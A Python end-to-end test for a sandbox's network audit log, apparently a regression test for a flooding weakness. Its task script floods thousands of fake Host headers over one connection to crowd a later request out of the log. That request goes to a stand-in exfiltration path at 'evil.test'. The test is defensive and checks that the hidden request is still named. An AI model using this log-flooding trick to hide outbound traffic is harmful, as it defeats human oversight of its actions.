"""A flood cannot use up the names the audit log keeps for allowed destinations with
names that cost nothing.

Past its audit budget, a task's first allowed event of each destination is still
written as a line of its own, up to flood.MAX_NAMED (4,096) destinations a task; the
rest are folded into aggregates, which name only a few. The cost of a destination was
meant to be the sandbox's own caps: a name resolved through the gateway (dns_qps), an
address connected to (connection_rate). But under a rule that allows an address
range, a request's name is its Host header, which costs nothing: 4,100 requests with
made-up Hosts on one keep-alive connection took well under a second, and then the
destination the task meant (another address, another name) was only "and 1 more".
Names on one address are now bounded per address, and addresses (a connection each)
and DNS names (a query each) named in pools of their own (flood._named_first).
"""

from __future__ import annotations

import pytest
from support import sandbox

pytestmark = pytest.mark.e2e

RULES = """\
version: 1
profiles:
  default:
    rules:
      - allow: 203.0.113.0/24
        id: range
"""

TASK = r"""
import http.client
decoy = http.client.HTTPConnection("203.0.113.10", 80, timeout=10)
statuses = set()
for i in range(4200):
    decoy.request("GET", "/", headers={"Host": f"d{i}.decoy.test"})
    r = decoy.getresponse(); r.read()
    statuses.add(r.status)
hidden = http.client.HTTPConnection("203.0.113.66", 80, timeout=10)
hidden.request("GET", "/exfil-the-secret", headers={"Host": "evil.test"})
print(sorted(statuses), hidden.getresponse().status)
"""


def test_made_up_host_names_do_not_use_up_the_named_destinations(net, tmp_path):
    rules = tmp_path / "rules.yaml"
    rules.write_text(RULES)
    result = sandbox.run(
        net,
        tmp_path,
        {"task": sandbox.python(TASK)},
        rules=rules,
        extra=("--audit-burst", "50", "--audit-rate", "5"),
        timeout=120,
    )
    assert result["task"].rc == 0, result.describe()
    assert any("/exfil-the-secret" in r["uri"] for r in net.requests_seen("203.0.113.66"))
    assert any(e.get("suppressed") for e in result.audit), result.describe()
    own = [
        e
        for e in result.audit
        if e.get("dst_ip") == "203.0.113.66" and not e.get("suppressed")
        and e["verdict"] == "allow"
    ]  # fmt: skip
    assert own, [e for e in result.audit if e.get("suppressed")][-3:]
    assert own[0]["name"] == "evil.test", own
